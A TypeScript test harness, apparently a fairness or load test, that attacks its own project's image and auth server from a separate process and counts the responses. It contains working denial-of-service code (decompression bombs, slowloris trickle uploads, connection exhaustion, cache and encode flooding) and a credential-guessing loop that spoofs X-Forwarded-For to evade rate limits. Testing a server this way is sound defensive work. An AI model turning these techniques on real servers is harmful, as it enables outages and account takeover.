import { readFileSync } from 'node:fs';
import { Agent, type IncomingMessage, type RequestOptions, request } from 'node:http';
import { createConnection } from 'node:net';
import { setPriority } from 'node:os';
import { setTimeout as sleep } from 'node:timers/promises';

// Attacks a server from a process of its own until SIGTERM. fairness.test.ts bundles and starts it. It prints
// `attacking` at full strength, and at the end how often each answer came.

/** What a stranger knows, and what the owner of another project on the server has. */
export interface Target {
  readonly url: string;
  readonly appUrl: string;
  /** The attacker's address. */
  readonly from: string;
  /** An address that the server takes for a proxy: it stands for a machine with a whole IPv6 network. */
  readonly proxy: string;
  /** An upload token of the attacker's project. */
  readonly token: string;
  /** Small files that are slow to decode. */
  readonly bombs: readonly string[];
  /** A large public image of the attacker's project. */
  readonly own: string;
  /** A public image of the attacked project. */
  readonly theirs: string;
  /** The email of an account. */
  readonly email: string;
  /** Number of guesses at once. */
  readonly guesses: number;
  /** How long the attack lasts before it is at full strength. */
  readonly warmUpMs: number;
}

/** Size of a form that arrives byte by byte, and the bytes of each piece. */
const [TRICKLE_BYTES, TRICKLE_PIECE] = [35_000, 350];

/** One for each of the findings. Each starts its clients and returns. */
const ATTACKS = {
  /** Small files that are slow to decode. */
  decode({ bombs, ...target }: Target) {
    const files = bombs.map((path) => readFileSync(path));
    clients(18, (turn) => upload(target, files[turn % files.length] ?? Buffer.alloc(0)));
  },
  /** Uploads that arrive byte by byte hold upload slots. */
  trickle(target: Target) {
    clients(64, () => trickle(target));
  },
  /** Every possible variant of somebody else's image. */
  variants({ theirs, from }: Target) {
    clients(16, (turn) => read(`${theirs}?w=${1 + (turn % 1000)}&q=${1 + (turn % 7)}`, from));
  },
  /** Slow variants of somebody else's image use up its project's time. */
  encode({ theirs, from }: Target) {
    clients(16, (turn) => read(`${theirs}?w=${2000 - (turn % 1900)}&fmt=avif&q=100`, from));
  },
  /** Connections that send nothing, or half of their headers. */
  connections({ url, from }: Target) {
    clients(3000, (turn) => hold(url, from, turn % 2 === 0 ? '' : 'GET / HTTP/1.1\r\nHost: a\r\n'));
  },
  /** Readers of a large image that take the first bytes and no more. */
  readers({ own, from }: Target) {
    const { pathname, host, origin } = new URL(own);
    clients(2000, () => hold(origin, from, `GET ${pathname} HTTP/1.1\r\nHost: ${host}\r\n\r\n`));
  },
  /** Guesses at once, each from another network of one IPv6 /48, every two seconds. */
  guesses({ appUrl, proxy, email, guesses }: Target) {
    clients(guesses, async (turn) => {
      const guess = turn % 2 === 0 ? email : `nobody-${turn}@example.com`;
      const pause = sleep(2000);
      await send(`${appUrl}/v1/auth/sign-in`, {
        method: 'POST',
        localAddress: proxy,
        headers: {
          Origin: appUrl,
          'Content-Type': 'application/json',
          'X-Forwarded-For': `2001:db8:77:${(turn % 65_536).toString(16)}::1`,
        },
        body: Buffer.from(JSON.stringify({ email: guess, password: `wrong password ${turn}` })),
      });
      await pause;
    });
  },
  /** Large variants of one image fill the cache of everybody. */
  cache({ own, from }: Target) {
    clients(16, async (turn) => {
      const url = `${own}?fmt=png&w=${2300 - (turn % 2000)}`;
      for (const method of ['HEAD', 'GET', 'GET']) await read(url, from, method);
    });
  },
};

export type Attack = keyof typeof ATTACKS;

const answers = new Map<string, number>();
const count = (answer: string): void => {
  answers.set(answer, (answers.get(answer) ?? 0) + 1);
};
const agent = new Agent({ keepAlive: true });

/** Starts clients, each of which does its work again and again. */
function clients(number: number, work: (turn: number) => Promise<unknown>): void {
  let turn = 0;
  const repeat = async (): Promise<never> => {
    for (;;) {
      await work(turn++).catch(() => count('no answer'));
      // An answer takes as long to reach another machine.
      await sleep(5);
    }
  };
  for (let client = 0; client < number; client++) void repeat();
}

type Sent = RequestOptions & { readonly body?: Buffer };

/** Sends a request, reads the whole answer and counts its status. */
async function send(url: string, { body, ...options }: Sent): Promise<void> {
  const outgoing = request(url, { agent, ...options });
  outgoing.end(body);
  await answerOf(outgoing);
}

async function answerOf(outgoing: ReturnType<typeof request>): Promise<void> {
  const response = await new Promise<IncomingMessage>((resolve, reject) => {
    outgoing.once('response', resolve).on('error', reject);
  });
  for await (const _ of response);
  count(String(response.statusCode));
}

function read(url: string, from: string, method = 'GET'): Promise<void> {
  return send(url, { method, localAddress: from });
}

type Uploader = Pick<Target, 'url' | 'token' | 'from'>;

function openForm({ url, token, from }: Uploader, bytes: number) {
  return request(`${url}/v1/upload`, {
    method: 'POST',
    agent: false,
    localAddress: from,
    headers: {
      'X-Aura-Signature': token,
      'Content-Type': 'multipart/form-data; boundary=attack',
      'Content-Length': HEAD.length + bytes + TAIL.length,
    },
  });
}

const HEAD = Buffer.from(
  '--attack\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n',
);
const TAIL = Buffer.from('\r\n--attack--\r\n');

async function upload(uploader: Uploader, file: Buffer): Promise<void> {
  const outgoing = openForm(uploader, file.length);
  outgoing.end(Buffer.concat([HEAD, file, TAIL]));
  await answerOf(outgoing);
}

async function trickle(uploader: Uploader): Promise<void> {
  const outgoing = openForm(uploader, TRICKLE_BYTES);
  outgoing.write(HEAD);
  outgoing.write(Buffer.from('ffd8ffe000104a464946', 'hex'));
  const timer = setInterval(() => outgoing.write(Buffer.alloc(TRICKLE_PIECE)), 1000);
  try {
    await answerOf(outgoing);
  } finally {
    clearInterval(timer);
    outgoing.destroy();
  }
}

/** Opens a connection, sends `text`, and reads nothing of an answer. Resolves when the server has closed it. */
async function hold(url: string, from: string, text: string): Promise<void> {
  const { hostname: host, port } = new URL(url);
  const socket = createConnection({ host, port: Number(port), localAddress: from });
  if (text.endsWith('\r\n\r\n')) socket.pause();
  await new Promise<void>((resolve, reject) => {
    socket.once('connect', () => {
      count('connected');
      if (text !== '') socket.write(text);
    });
    socket.on('error', reject).once('close', () => resolve());
    // One that does not read does not see the end.
    setTimeout(() => socket.destroy(), 60_000);
  });
  count('closed');
  await sleep(500);
}

const [attack, text] = process.argv.slice(2);
const target = JSON.parse(text ?? '') as Target;
// It stands for another machine: its processor time is not taken from the server.
setPriority(10);
ATTACKS[attack as Attack](target);
process.once('SIGTERM', () => {
  const counts = JSON.stringify(Object.fromEntries([...answers].sort()));
  process.stdout.write(counts, () => process.exit());
});
setTimeout(() => console.log('attacking'), target.warmUpMs);
